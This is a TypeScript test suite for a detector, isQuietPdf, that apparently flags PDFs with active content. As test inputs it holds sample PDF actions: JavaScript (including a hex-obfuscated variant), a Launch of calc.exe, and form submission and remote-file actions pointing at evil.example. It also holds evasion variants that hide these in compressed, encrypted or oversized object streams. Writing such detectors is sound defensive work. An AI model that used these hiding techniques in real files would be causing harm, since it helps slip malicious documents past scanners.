import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import PDFDocument from 'pdfkit';
import { describe, expect, test } from 'vitest';
import { isQuietPdf } from './quiet-pdf.ts';

/** A PDF as pdfkit writes it. */
function written(draw: (doc: PDFKit.PDFDocument) => void, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const doc = new PDFDocument({ compress: true, ...options });
  const pieces: Buffer[] = [];
  const ended = new Promise<Buffer>((done) => {
    doc.on('data', (piece: Buffer) => pieces.push(piece)).on('end', () => done(Buffer.concat(pieces)));
  });
  draw(doc);
  doc.end();
  return ended;
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** A file whose first page stands as it is and whose other object is packed. */
function packed(object: string, head = '/Filter /FlateDecode', pack: (text: string) => Buffer = deflateSync): Buffer {
  const content = pack(`5 0 ${object}`);
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 5 0 R >>\nendobj\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${head} /Length ${content.length} >>\nstream\n`,
      'latin1',
    ),
    content,
    Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1'),
  ]);
}

describe('quiet are', () => {
  test('pages with words, pictures of words and links', async () => {
    const pages = await written((doc) => {
      doc.text('Transferencia 1.350,00 €').link(10, 10, 100, 20, 'https://banco.example/').addPage().text('Página 2');
    });
    expect(isQuietPdf(pages)).toBe(true);
  });

  test('pages whose objects are packed', () => {
    expect(isQuietPdf(packed('<< /Type /Page >>'))).toBe(true);
  });

  test('pages that are locked against changes, as banks do, where nothing is packed', async () => {
    expect(isQuietPdf(await written((doc) => doc.text('Extracto'), { ownerPassword: 'banco' }))).toBe(true);
  });

  test('random bytes within a picture', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 0, maxLength: 4000 }), (bytes) => {
        const file = [Buffer.from('%PDF-1.7\n1 0 obj\n<< /Length 1 >>\nstream\n'), bytes, Buffer.from('\nendstream')];
        expect(isQuietPdf(Buffer.concat(file))).toBe(true);
      }),
    );
  });
});

describe('PDF files that act on their own', () => {
  test('a file in a file, as pdfkit embeds it', async () => {
    const bytes = await written((doc) => doc.file(Buffer.from('hola'), { name: 'nota.txt' }));
    expect(isQuietPdf(bytes)).toBe(false);
  });

  test.each([
    ['a script', SCRIPT],
    ['a script whose name is written in codes', '<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>'],
    ['a program', '<< /S /Launch /F (calc.exe) >>'],
    ['a form that sends itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['another file that is opened', '<< /S /GoToR /F (//evil.example/x) >>'],
    ['a film', '<< /Subtype /RichMedia >>'],
  ])('%s, in the open and packed', (_, object) => {
    expect(isQuietPdf(Buffer.from(`%PDF-1.7\n5 0 obj\n${object}\nendobj\n%%EOF\n`, 'latin1'))).toBe(false);
    expect(isQuietPdf(packed(object))).toBe(false);
    expect(isQuietPdf(packed(object, '', Buffer.from))).toBe(false);
  });

  test.each([
    ['packed twice', packed(SCRIPT, '/Filter [/ASCII85Decode /FlateDecode]')],
    ['packed with a predictor', packed(SCRIPT, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')],
    ['packed in another way', packed(SCRIPT, '/Filter /LZWDecode')],
    ['damaged', packed(SCRIPT, '/Filter /FlateDecode', (text) => deflateSync(text).subarray(4))],
    ['encrypted', Buffer.concat([packed('<< /Type /Page >>'), Buffer.from('trailer\n<< /Encrypt 9 0 R >>\n')])],
    ['cut off', packed('<< /Type /Page >>').subarray(0, 140)],
    ['hidden behind a long head', packed('<< /Type /Page >>', `/Filter /FlateDecode /Note (${'x'.repeat(3000)})`)],
    [
      'larger than a paper can be',
      packed('<< >>', '/Filter /FlateDecode', () => deflateSync(Buffer.alloc(64_000_001, 32))),
    ],
  ])('packed objects that cannot be read: %s', (_, bytes) => {
    expect(isQuietPdf(bytes)).toBe(false);
  });
});
